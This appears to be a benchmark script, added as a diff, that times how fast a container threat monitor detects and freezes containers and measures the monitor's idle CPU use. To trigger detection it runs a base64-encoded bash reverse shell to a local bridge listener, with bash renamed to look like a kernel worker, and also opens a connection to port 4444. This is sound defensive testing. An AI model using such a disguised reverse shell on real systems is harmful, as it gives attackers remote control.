@@ -1,0 +1,228 @@
+"""Threat monitor figures: detection-to-action latency for a reverse shell and for a connect to
+port 4444 (p50/p95 over up to 20 runs), and the daemon's CPU use while watching 10 idle
+containers.
+
+Latency is measured on this host's clock, end to end: from the moment the host-side listener
+(on the bridge address, never anywhere else) accepts the container's connection to the moment
+the monitor's event socket delivers the record, which the daemon emits after the container is
+frozen. The daemon's own figure (kernel event received -> frozen) is reported alongside.
+Here the actions are set to `pause` for every level so one container serves all runs.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import uuid
+from pathlib import Path
+from typing import Any
+
+from bench.common import Figure, percentile
+from coi_tui.incus import Incus, IncusError
+
+IMAGE = "coi-default"
+GATEWAY = "10.199.0.1"
+REPO = Path(__file__).resolve().parents[1]
+
+
+class Events:
+    def __init__(self, path: Path) -> None:
+        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.sock.connect(str(path))
+        self.items: list[tuple[float, dict[str, Any]]] = []
+        self.cond = threading.Condition()
+        threading.Thread(target=self._read, daemon=True).start()
+
+    def _read(self) -> None:
+        buffer = b""
+        while data := self.sock.recv(65536):
+            buffer += data
+            *lines, buffer = buffer.split(b"\n")
+            now = time.monotonic()
+            with self.cond:
+                self.items += [(now, json.loads(x)) for x in lines if x]
+                self.cond.notify_all()
+
+    def wait(self, match: Any, timeout: float = 10) -> tuple[float, dict[str, Any]] | None:
+        deadline = time.monotonic() + timeout
+        with self.cond:
+            while True:
+                for item in self.items:
+                    if match(item[1]):
+                        self.items.remove(item)
+                        return item
+                left = deadline - time.monotonic()
+                if left <= 0:
+                    return None
+                self.cond.wait(left)
+
+
+class Listener:
+    def __init__(self, port: int = 0) -> None:
+        self.server = socket.socket()
+        self.server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.server.bind((GATEWAY, port))
+        self.server.listen(16)
+        self.port = self.server.getsockname()[1]
+        self.accepted: list[tuple[float, socket.socket]] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.server.accept()
+            except OSError:
+                return
+            self.accepted.append((time.monotonic(), conn))
+
+    def close_all(self) -> None:
+        for _, conn in self.accepted:
+            conn.close()
+        self.accepted.clear()
+
+
+def launch(incus: Incus, name: str) -> None:
+    nic = {"type": "nic", "network": "coibr0", "name": "eth0"}
+    incus.create_instance(name, IMAGE, devices={"eth0": nic}, start=True)
+
+
+def measure(
+    incus: Incus, events: Events, name: str, listener: Listener, script: str, rule: set[str],
+    runs: int, budget: float,
+) -> tuple[list[float], list[float]]:  # fmt: skip
+    e2e: list[float] = []
+    internal: list[float] = []
+    started = time.monotonic()
+    for _ in range(runs):
+        if time.monotonic() - started > budget:
+            break
+        listener.close_all()
+        with events.cond:
+            events.items.clear()  # nothing of the previous run may count for this one
+        t0 = time.monotonic()
+        proc = subprocess.Popen(
+            ["incus", "exec", name, "--", "bash", "-c", script],
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+        )  # fmt: skip
+        got = events.wait(
+            lambda m: m.get("type") == "threat" and m.get("container") == name
+            and m.get("rule_id") in rule
+        )  # fmt: skip
+        accepted = [t for t, _ in listener.accepted if t >= t0]
+        if got and accepted:
+            # the host accepts just after the SYN the monitor sees, so for network events
+            # this can be slightly negative: detection beat the handshake
+            e2e.append(got[0] - accepted[0])
+            internal.append(got[1].get("detect_to_action_ms", 0) / 1000)
+        # clean up within the de-duplication window, so the old shell is not re-reported
+        proc.kill()
+        listener.close_all()
+        # the daemon's own Incus freeze follows its cgroup freeze: let it land first
+        incus.wait_for_status(name, ["Frozen"], 3)
+        for _ in range(5):  # a relay of the old shell may be reported once more
+            try:
+                if incus.status(name) == "Frozen":
+                    incus.unfreeze(name)
+                incus.exec_capture(
+                    name, ["pkill", "-9", "-f", "kworker|create_connection"], timeout=5
+                )
+                break
+            except IncusError:
+                continue
+        events.wait(lambda m: m.get("type") == "status" and m.get("container") == name, 1.5)
+    return e2e, internal
+
+
+def latency_figures(
+    label: str, e2e: list[float], internal: list[float], limit: float
+) -> list[Figure]:
+    if not e2e:
+        return [Figure(f"{label}_p95_s", float("nan"), "s", 0, target=f"< {limit}", met=False)]
+    p95 = percentile(e2e, 95)
+    extra = {"daemon_internal_p50_s": percentile(internal, 50),
+             "daemon_internal_p95_s": percentile(internal, 95)}  # fmt: skip
+    return [
+        Figure(f"{label}_p50_s", percentile(e2e, 50), "s", len(e2e), min(e2e), max(e2e)),
+        Figure(f"{label}_p95_s", p95, "s", len(e2e), min(e2e), max(e2e), f"< {limit}",
+               p95 < limit, extra=extra),
+    ]  # fmt: skip
+
+
+def cpu_seconds(pid: int) -> float:
+    with open(f"/proc/{pid}/stat") as f:
+        fields = f.read().rsplit(")", 1)[1].split()
+    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+
+def run(budget_s: float = 150) -> list[Figure]:
+    incus = Incus()
+    incus.require_image(IMAGE)
+    prefix = f"coibench{uuid.uuid4().hex[:4]}m-"
+    home = Path(tempfile.mkdtemp(prefix="coi-bench-monitor-"))
+    (home / "monitor.toml").write_text(
+        "[monitoring]\ndedup_window_sec = 5\nidle_exit_sec = 600\n"
+        '[monitoring.actions]\nhigh = "pause"\ncritical = "pause"\n'
+    )
+    env = {**os.environ, "COI_HOME": str(home), "COI_CONTAINER_PREFIX": prefix,
+           "PYTHONPATH": str(REPO)}  # fmt: skip
+    coi = [sys.executable, "-m", "coi_tui.cli.main", "monitor"]
+    names = [f"{prefix}{i}" for i in range(10)]
+    figures: list[Figure] = []
+    listeners: list[Listener] = []
+    try:
+        subprocess.run([*coi, "--daemon"], env=env, check=True, capture_output=True)
+        pid = int((home / "monitor.pid").read_text())
+        events = Events(home / "monitor.sock")
+        for name in names:
+            launch(incus, name)
+        for name in names:
+            events.wait(lambda m, n=name: m.get("type") == "watch" and m.get("container") == n, 60)
+        target = names[0]
+        shell = Listener()
+        c2 = Listener(4444)
+        listeners += [shell, c2]
+        inner = f"/tmp/kworker -i >& /dev/tcp/{GATEWAY}/{shell.port} 0>&1"
+        encoded = base64.b64encode(inner.encode()).decode()
+        revshell = f"cp /bin/bash /tmp/kworker; echo {encoded} | base64 -d | /tmp/kworker"
+        per = max(10.0, (budget_s - 40) / 3)
+        e2e, internal = measure(incus, events, target, shell, revshell,
+                                {"proc.revshell-socket-stdio"}, 20, per)  # fmt: skip
+        figures += latency_figures("monitor_revshell_latency", e2e, internal, 0.5)
+        connect = (f"python3 -c \"import socket; s = socket.create_connection(('{GATEWAY}', 4444));"
+                   " import time; time.sleep(5)\"")  # fmt: skip
+        e2e, internal = measure(incus, events, names[1], c2, connect, {"net.c2-port"}, 20, per)
+        figures += latency_figures("monitor_c2_port_latency", e2e, internal, 0.15)
+        # idle: 10 containers watched, nothing happening in them
+        for name in names[:2]:
+            if incus.status(name) == "Frozen":
+                incus.unfreeze(name)
+        window = min(20.0, max(5.0, per))
+        wall0, cpu0 = time.monotonic(), cpu_seconds(pid)
+        time.sleep(window)
+        share = (cpu_seconds(pid) - cpu0) / (time.monotonic() - wall0) * 100
+        figures.append(Figure("monitor_idle_cpu_10_containers", share, "%", 1,
+                              target="< 3", met=share < 3,
+                              extra={"window_s": window}))  # fmt: skip
+    finally:
+        for listener in listeners:
+            listener.server.close()
+            listener.close_all()
+        subprocess.run([*coi, "--stop"], env=env, capture_output=True)
+        for name in names:
+            subprocess.run(["incus", "delete", "-f", name], capture_output=True)
+    return figures
+
+
+if __name__ == "__main__":
+    import signal
+
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))  # still clean up
+    for fig in run(float(sys.argv[1]) if len(sys.argv) > 1 else 150):
+        print(json.dumps(fig.as_dict()))
